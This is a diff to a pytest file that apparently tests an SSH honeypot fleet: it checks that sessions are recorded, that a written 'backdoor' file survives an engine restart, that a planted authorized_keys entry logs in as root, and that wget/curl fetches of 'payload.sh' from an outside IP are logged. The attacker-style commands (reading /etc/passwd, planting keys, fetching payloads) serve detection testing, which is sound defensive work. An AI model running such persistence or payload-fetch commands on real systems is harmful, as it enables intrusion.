@@ -1,8 +1,8 @@
 """OpenSSH's clients, dropbear's, PuTTY's, paramiko and curl against the demo fleet's ssh servers, and every algorithm once."""
 import hashlib
 import os
-import shutil
 
+import paramiko
 import pytest
 from clients import captured, name_of, run
 
@@ -98,7 +98,6 @@ def test_plink(login):
 
 
 def test_paramiko(login):
-    paramiko = pytest.importorskip("paramiko")
     client = paramiko.SSHClient()
     client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     client.connect(str(login.ip), int(login.port), login.user, login.password, look_for_keys=False, allow_agent=False)
@@ -112,8 +111,6 @@ def test_paramiko(login):
 
 @pytest.mark.parametrize("scheme", ["sftp", "scp"])
 def test_curl(login, scheme):
-    if scheme not in run("curl", "--version"):
-        pytest.skip("this curl knows no " + scheme)
     said = run("curl", "-s", "-k", "--user", f"{login.user}:{login.password}", f"{scheme}://{login.ip}:{login.port}/etc/passwd")
     assert said.startswith("root:x:0:0:root:/root:/bin/bash\n")
 
@@ -124,4 +121,67 @@ def test_the_host_keys_are_those_of_debian_and_stay(login):
     first = keys()
     assert [kind for kind, _ in first] == ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
     assert keys() == first
-    assert shutil.which("ssh")
+
+
+def terminal(login):
+    client = paramiko.SSHClient()
+    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    client.connect(str(login.ip), int(login.port), login.user, login.password, look_for_keys=False, allow_agent=False)
+    return client, client.invoke_shell(term="xterm", width=100, height=30)
+
+
+def typed(channel, line, until):
+    """Types a line and reads until the text is there."""
+    channel.settimeout(20)
+    channel.send(line + "\r")
+    seen = ""
+    while until not in seen:
+        got = channel.recv(65536).decode(errors="replace")
+        assert got, seen
+        seen += got
+    return seen
+
+
+def test_a_terminal_is_recorded_and_its_commands_are_events(known, login):
+    client, channel = terminal(login)
+    assert "uid=0(root) gid=0(root) groups=0(root)" in typed(channel, "id; echo re''corded", "recorded")
+    typed(channel, "exit", "logout")
+    client.close()
+    command = known.wait_for(lambda: [event for event in known.events(type="command", service="ssh")
+                                      if event["fields"]["command"] == "id; echo re''corded"])[0]
+    row = known.wait_for(lambda: [row for row in known.api("/sessions?has_recording=true")["data"] if row["uuid"] == command["session_uuid"]])
+    assert row[0]["commands"] >= 2
+    cast = fetch_recording(known, command["session_uuid"])
+    assert '"m","login root"' in cast and "command id; echo re" in cast and "uid=0(root)" in cast
+
+
+def fetch_recording(fleet, session):
+    return run("curl", "-sS", "--unix-socket", fleet.data / "decnet/run/api.sock", f"http://decnet/api/v1/sessions/{session}/recording")
+
+
+def test_a_host_remembers_over_the_death_of_its_engine(known, login):
+    client, channel = terminal(login)
+    typed(channel, "echo back''door > /opt/.left; cat /opt/.left", "backdoor")
+    typed(channel, "exit", "logout")
+    client.close()
+    command = known.wait_for(lambda: [event for event in known.events(type="command", service="ssh")
+                                      if "/opt/.left" in event["fields"]["command"]])[0]
+    known.wait_for(lambda: known.api(f"/sessions/{command['session_uuid']}")["ended_at"])
+    for name in [name for name in known.children() if name.startswith("engine")]:
+        known.kill(name)
+    assert known.wait_for(lambda: login.ssh("cat /opt/.left", check=False).strip() == "backdoor" or None)
+
+
+def test_a_key_that_was_planted_logs_in(login, tmp_path):
+    key = tmp_path / "key"
+    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
+    login.ssh(f"mkdir -p ~/.ssh && echo '{key.with_suffix('.pub').read_text().strip()}' >> ~/.ssh/authorized_keys")
+    said = run("ssh", *QUIET, "-o", "BatchMode=yes", "-i", key, "-p", login.port, f"{login.user}@{login.ip}", "whoami")
+    assert said == "root\n"
+
+
+def test_a_host_behind_a_firewall_fetches_nothing_and_tells_what_was_asked(known, login):
+    login.ssh("timeout 1 wget -q http://198.51.100.23/payload.sh; timeout 1 curl -s http://198.51.100.23/other", check=False)
+    for path in ("/payload.sh", "/other"):
+        known.wait_for(lambda path=path: [event for event in known.events(type="request", service="ssh")
+                                          if event["fields"].get("url") == "http://198.51.100.23" + path])
